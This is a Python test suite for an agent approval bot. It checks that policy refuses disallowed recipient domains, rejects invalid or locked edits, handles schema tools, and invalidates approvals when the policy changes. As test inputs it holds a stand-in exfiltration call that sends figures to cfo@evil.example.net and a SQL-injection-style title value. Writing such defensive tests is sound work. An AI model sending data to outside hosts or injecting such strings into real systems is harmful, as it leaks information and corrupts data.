"""Argument constraints, schema-dict tools and policy changes, end to end over signed HTTP."""

from __future__ import annotations

import json

from sqlalchemy import select

from agent_runtime.authorization import Refusal
from bot.errors import REFUSALS
from bot.sandbox import people
from bot.sandbox.driver import buttons
from store.audit_models import AuditEvent
from store.models import ApprovalRequest, Decision
from tests.bot.flows import button, card_now, ephemeral_for, open_modal, result_message, start_run

OUTSIDE = 'send_external_message {"recipient": "cfo@evil.example.net", "text": "numbers"}'
INSIDE = 'send_external_message {"recipient": "partner@example.com", "text": "hi"}'
MCP_AGENT = "tests.agent_runtime.custom_graphs:mcp_style_agent"
TICKETS = """
version: "tickets-1"
roles:
  security: {users: [U0SEC1]}
tools:
  create_ticket:
    decisions: [approve, edit, reject]
    approvers: [security]
    constraints:
      title: {pattern: '^[A-Za-z ]+$'}
"""


def decisions(h) -> list[Decision]:  # type: ignore[no-untyped-def]
    with h.bot.db.transaction() as s:
        return list(s.scalars(select(Decision)))


def audit(h, kind: str) -> list[AuditEvent]:  # type: ignore[no-untyped-def]
    with h.bot.db.transaction() as s:
        return list(s.scalars(select(AuditEvent).where(AuditEvent.kind == kind)))


def test_a_call_outside_the_allowed_domains_is_refused_with_the_reason(serve_bot, sqlite_url):
    h = serve_bot(sqlite_url)
    root, card = start_run(h, f"{OUTSIDE}\n{INSIDE}")
    shown = json.dumps(card.blocks)
    assert "Refused by the policy" in shown and "evil.example.net is not an allowed domain" in shown
    rows = {b.block_id for b in buttons(card) if b.block_id.startswith("action:")}
    assert len(rows) == 1, "only the allowed call can be decided"
    recorded = audit(h, "interrupt_recorded")[0].detail["actions"]
    assert "evil.example.net" in recorded[0]["policy_violation"]

    h.driver.click(user=people.SECURITY, message=card, button=button(card, "Approve"))
    result = result_message(h, root)
    assert [e["recipient"] for e in h.workspace.effects()] == ["partner@example.com"]
    assert "Refused by policy" in result.text


def test_an_edit_outside_the_constraints_is_refused_on_the_field(serve_bot, sqlite_url):
    h = serve_bot(sqlite_url)
    root, card = start_run(h, INSIDE)
    modal = open_modal(h, people.SECURITY, card, "Edit")
    bad = h.driver.submit_view(
        user=people.SECURITY,
        view_id=modal.id,
        values={"arg:recipient": {"value": "someone@elsewhere.org"}},
    )
    assert bad.json()["response_action"] == "errors"
    assert "not an allowed domain" in bad.json()["errors"]["arg:recipient"]
    assert decisions(h) == [], "nothing was recorded"

    good = h.driver.submit_view(
        user=people.SECURITY,
        view_id=modal.id,
        values={"arg:recipient": {"value": "ops@example.com"}},
    )
    assert good.status == 200 and good.body == ""
    result_message(h, root)
    assert [e["recipient"] for e in h.workspace.effects()] == ["ops@example.com"]


def test_the_path_of_a_file_review_is_locked(serve_bot, sqlite_url):
    h = serve_bot(sqlite_url)
    root, card = start_run(h, 'replace_text_file {"path": "config/app.env", "content": "A=1"}')
    assert "sensitive_file_change" in json.dumps(card.blocks)
    modal = open_modal(h, people.RELEASE_MANAGER, card, "Edit")
    bad = h.driver.submit_view(
        user=people.RELEASE_MANAGER, view_id=modal.id, values={"arg:path": {"value": "notes/x"}}
    )
    assert "locked" in bad.json()["errors"]["arg:path"]
    assert not (h.workspace.root / "notes/x").exists()

    h.driver.submit_view(
        user=people.RELEASE_MANAGER, view_id=modal.id, values={"arg:content": {"value": "A=2"}}
    )
    result_message(h, root)
    assert (h.workspace.root / "config/app.env").read_text() == "A=2"


def test_a_tool_with_a_json_schema_dict_is_reviewed_edited_and_run(serve_bot, sqlite_url, tmp_path):
    (tmp_path / "tickets.yaml").write_text(TICKETS)
    h = serve_bot(sqlite_url, agent=MCP_AGENT, policy_file=tmp_path / "tickets.yaml")
    root, card = start_run(h, 'create_ticket {"title": "Fix login"}')
    assert '\\"priority\\": \\"low\\"' in json.dumps(card.blocks) or "low" in json.dumps(
        card.blocks
    ), "the schema's default is shown"

    modal = open_modal(h, people.SECURITY, card, "Edit")
    inputs = {b["block_id"] for b in modal.view["blocks"] if b["type"] == "input"}
    assert inputs == {"arg:title", "arg:priority", "arg:assignee"}
    empty = h.driver.submit_view(
        user=people.SECURITY, view_id=modal.id, values={"arg:title": {"value": ""}}
    )
    assert empty.json()["response_action"] == "errors" and "arg:title" in empty.json()["errors"]
    bad = h.driver.submit_view(
        user=people.SECURITY, view_id=modal.id, values={"arg:title": {"value": "Fix login'); --"}}
    )
    assert "arg:title" in bad.json()["errors"], "the policy's pattern applies to edits"
    high = {"type": "static_select", "selected_option": {"value": '"high"'}}
    h.driver.submit_view(
        user=people.SECURITY,
        view_id=modal.id,
        values={"arg:priority": {"value": high}, "arg:assignee": {"value": "dana"}},
    )
    result_message(h, root)
    (effect,) = h.workspace.effects()
    assert (effect["tool"], effect["title"], effect["priority"], effect["assignee"]) == (
        "create_ticket",
        "Fix login",
        "high",
        "dana",
    )
    with h.bot.db.transaction() as s:
        assert s.scalars(select(ApprovalRequest.status)).one() == "resolved"


def test_a_policy_change_invalidates_pending_approvals(serve_bot, sqlite_url, tmp_path):
    old = serve_bot(sqlite_url)
    _root, card = start_run(old, INSIDE)
    newer = tmp_path / "newer.yaml"
    from agent_runtime.policy import BUNDLED_POLICY

    newer.write_text(BUNDLED_POLICY.read_text().replace('version: "', 'version: "next-', 1))
    # The operator rolled out a new policy: a replica started with it, on the same store.
    new = serve_bot(sqlite_url, policy_file=newer, sandbox=old.sandbox)
    # The old replica is draining: its inbox workers claim no more stored clicks. (While both
    # work, a stored click is decided under the policy of whichever replica claims it.)
    old.bot.inbox.stop(timeout=30)

    new.driver.click(user=people.SECURITY, message=card, button=button(card, "Approve"))
    assert ephemeral_for(new, people.SECURITY) == REFUSALS[Refusal.POLICY_CHANGED]
    with new.bot.db.transaction() as s:
        request = s.scalars(select(ApprovalRequest)).one()
    assert request.status == "invalidated" and "policy changed" in (request.outcome or "")
    assert old.workspace.effects() == []
    assert decisions(new) == []
    told = new.state.wait_for(lambda: [m for m in new.state.messages if "policy changed" in m.text])
    assert told, "the run's thread is told"
    invalidated = json.dumps(card_now(old, card).blocks)
    assert "Invalidated: nothing ran" in invalidated and not buttons(card_now(old, card))
